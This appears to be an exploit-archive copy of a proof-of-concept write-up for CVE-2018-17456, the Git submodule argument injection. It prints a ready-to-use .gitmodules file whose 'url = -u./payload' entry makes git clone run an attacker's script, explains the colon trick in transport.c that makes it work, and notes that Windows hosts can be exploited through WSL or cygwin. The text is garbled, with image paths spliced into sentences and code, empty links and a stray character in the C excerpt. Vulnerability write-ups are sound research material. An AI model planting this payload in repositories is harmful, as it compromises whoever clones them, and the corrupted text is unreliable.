Git Submodule Arbitrary Code Execution

This write up provides a proof of concept with technical details for the git submodule arbitrary code execution vulnerability.

MD5 | 8b90c70cc560ce019f65408cbaa40ac8

# CVE-2018-17456

I've gotten a couple of questions about exploitation for the
[recent RCE]( in Git. So here we
go with some technical details.

## TL;DR

[Here]( is a PoC repository.
EDB Note: Mirror ~## Exploitation

The `.gitmodules` file looks as follows:

[submodule "x:x"]
path = x:x
url = -u./payload

The actual command being injected is set by the url,`-u./payload`
points the `upload-pack` flag of git clone to the `payload` shell
script. Note also the `:` within the path, this part is needed to
actually get the `payload` script executed.

The path will end up as the repository URL in the subsequent `clone`

execve("/usr/lib/git-core/git", ["/usr/lib/git-core/git", "clone",
"--no-checkout", "--progress", "--separate-git-dir",
"/tmp/huhu/.git/modules/x:x", "-u./payload", "/tmp/huhu/x:x"],...

As the actual URL from `.gitmodules` is interpreted as the `-u`

The colon is due to the fact, that the colon character let us go past
those lines in `transport.c`:

} else if (url_is_local_not_ssh(url) && is_file(url) && is_bundle(url, 1)) {
struct bundle_transport_data *data = xcalloc(1, sizeof(*data));
ret->data = data;
ret->vtable = &bundle_vtable;
ret->smart_options = NULL;

Due to `url_is_local_not_ssh` will return false due to the colon
in the path. And therefore later on in the code the smart_options
containing the `uploadpack` setting are still in place:

} else {
/* Unknown protocol in URL. Pass to external handler. */
int len = external_specification_len(url);
char *handler = xmemdupz(url, len);
transport_helper_init(ret, handler);if (ret->smart_options) {
ret->smart_options->thin = 1;
ret->smart_options->uploadpack = "git-upload-pack";
if (remote->uploadpack)
ret->smart_options->uploadpack = remote->uploadpack;
ret->smart_options->receivepack = "git-receive-pack";1
if(remote->receivepack)ret->smart_options->receivepack = remote->receivepack;

## Further hints

The constraint to have a colonin the `path` seems to hinder exploitation on Windows
as a colon is a forbidden character within a path on Windows. However as noted by
some people during the disclosure: Git running within the Windows Subsystem for Linux or
cygwin will allow exploitation on Windows hosts.

Etienne Stalmans who found [a similar issue](
earlier this year managed to exploit thisargument injection [using`--template`](

Related Posts